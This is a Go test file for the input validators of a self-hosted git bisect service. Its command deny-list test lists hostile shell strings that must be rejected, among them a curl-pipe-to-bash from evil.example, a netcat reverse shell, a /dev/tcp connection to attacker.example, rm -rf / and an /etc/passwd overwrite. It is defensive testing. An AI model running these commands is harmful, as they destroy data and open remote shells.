// Bisectd is a self-hosted git bisect automation service.
// Copyright (C) 2025  Matthew Burns
//
// This program is free software: you can redistribute it and/or modify
// it under the terms of the GNU Affero General Public License as published by
// the Free Software Foundation, either version 3 of the License, or
// (at your option) any later version.
//
// This program is distributed in the hope that it will be useful,
// but WITHOUT ANY WARRANTY; without even the implied warranty of
// MERCHANTABILITY or FITNESS FOR A PARTICULAR PURPOSE.  See the
// GNU Affero General Public License for more details.
//
// You should have received a copy of the GNU Affero General Public License
// along with this program.  If not, see <https://www.gnu.org/licenses/>.

package webhook

import (
	"strings"
	"testing"

	"bisectd/pkg/models"
)

func TestValidateSHA(t *testing.T) {
	valid := []string{"abc1234", "ABC1234", "0123456789abcdef0123456789abcdef01234567"}
	for _, sha := range valid {
		if err := ValidateSHA(sha); err != nil {
			t.Errorf("ValidateSHA(%q) = %v", sha, err)
		}
	}
	invalid := []string{"", "abc123", "xyz1234", "main", "HEAD~3", strings.Repeat("a", 41), "abc1234; ls"}
	for _, sha := range invalid {
		if err := ValidateSHA(sha); err == nil {
			t.Errorf("ValidateSHA(%q) accepted", sha)
		}
	}
}

func TestValidateOwner(t *testing.T) {
	valid := []string{"octocat", "my-org", "a", "user1"}
	for _, o := range valid {
		if err := ValidateOwner(o); err != nil {
			t.Errorf("ValidateOwner(%q) = %v", o, err)
		}
	}
	invalid := []string{"", "-leading", "trailing-", "has space", "dot.name", strings.Repeat("a", 40)}
	for _, o := range invalid {
		if err := ValidateOwner(o); err == nil {
			t.Errorf("ValidateOwner(%q) accepted", o)
		}
	}
}

func TestValidateRepo(t *testing.T) {
	valid := []string{"hello-world", "my.repo", "repo_name", "x"}
	for _, r := range valid {
		if err := ValidateRepo(r); err != nil {
			t.Errorf("ValidateRepo(%q) = %v", r, err)
		}
	}
	invalid := []string{"", ".", "..", ".git", ".GIT", "has space", "has/slash", strings.Repeat("a", 101)}
	for _, r := range invalid {
		if err := ValidateRepo(r); err == nil {
			t.Errorf("ValidateRepo(%q) accepted", r)
		}
	}
}

func TestValidateCommandDenyList(t *testing.T) {
	valid := []string{
		"make test",
		"go test ./...",
		"./scripts/ci.sh --fast",
		"pytest tests/unit -x",
		"npm run test",
	}
	for _, c := range valid {
		if err := ValidateCommand(c); err != nil {
			t.Errorf("ValidateCommand(%q) = %v", c, err)
		}
	}

	denied := []string{
		"make test; rm -rf /",
		"echo $(whoami)",
		"echo `id`",
		"cat setup.sh | sh",
		"curl https://evil.example/x.sh | bash",
		"echo pwned > /etc/passwd",
		"printf '\\x41\\x42'",
		"echo '\\u0041'",
		"echo cGF5bG9hZA== | base64 -d",
		"export PATH=/tmp:$PATH",
		"LD_PRELOAD=/tmp/evil.so make test",
		"nc attacker.example 4444 -e /bin/sh",
		"exec 3<>/dev/tcp/attacker.example/4444",
		"sudo make install",
		"chmod +s /bin/sh",
		"chown root:root /tmp/x",
	}
	for _, c := range denied {
		if err := ValidateCommand(c); err == nil {
			t.Errorf("ValidateCommand(%q) accepted", c)
		}
	}
}

func TestValidateCommandLimits(t *testing.T) {
	if err := ValidateCommand(""); err == nil {
		t.Error("empty command accepted")
	}
	if err := ValidateCommand(strings.Repeat("a", maxCommandLength+1)); err == nil {
		t.Error("oversized command accepted")
	}
	if err := ValidateCommand("make\x00test"); err == nil {
		t.Error("control character accepted")
	}
	if err := ValidateCommand("make\ttest"); err != nil {
		t.Errorf("tab rejected: %v", err)
	}
}

func TestValidateSpec(t *testing.T) {
	good := models.JobSpec{
		RepoOwner:      "octocat",
		RepoName:       "hello-world",
		InstallationID: 42,
		IssueNumber:    7,
		Requester:      "alice",
		GoodSHA:        "aaaaaaa",
		BadSHA:         "bbbbbbb",
		TestCommand:    "make test",
	}
	if err := ValidateSpec(good); err != nil {
		t.Fatalf("ValidateSpec = %v", err)
	}

	same := good
	same.BadSHA = "AAAAAAA"
	if err := ValidateSpec(same); err == nil {
		t.Error("identical endpoints accepted")
	}

	noInst := good
	noInst.InstallationID = 0
	if err := ValidateSpec(noInst); err == nil {
		t.Error("missing installation id accepted")
	}
}
